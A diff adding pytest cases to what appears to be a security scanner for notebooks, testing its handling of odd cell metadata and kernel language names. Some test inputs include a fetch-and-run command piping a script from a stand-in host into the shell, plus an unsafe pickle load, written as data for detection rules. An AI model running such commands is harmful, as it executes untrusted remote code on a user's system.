@@ -204,3 +204,20 @@ def test_the_scanner_says_what_it_is():
 def test_texts_that_format_builds(audit, text, rule):
     found = rules(audit(text), Severity.MEDIUM)
     assert found == ({rule} if rule else set())
+
+
+@pytest.mark.parametrize(
+    "metadata", [{"jupyter": {"source_hidden": "yes"}}, {"jupyter": 3}, {"tags": "hide-input"}, {"tags": [3, None]}, {}]
+)
+def test_odd_metadata_hides_nothing_and_breaks_nothing(audit, metadata):
+    found = audit({"source": "!curl http://x.example/i.sh | sh", "metadata": metadata})
+    assert "TEXT-HIDDEN-CELL" not in {item.rule.id for item in found}
+
+
+@pytest.mark.parametrize(("language", "text", "rule"), [
+    ("shellscript", "curl http://x.example/i.sh | sh", "SHELL-CURL-SH"),
+    ("python_glue_session", "import pickle\npickle.load(f)", "LOAD-PICKLE"),
+])  # fmt: skip
+def test_a_kernel_may_name_its_language_in_its_own_way(audit, gaps, language, text, rule):
+    assert rule in {item.rule.id for item in audit(text, language=language)}
+    assert gaps(text, language=language) == []
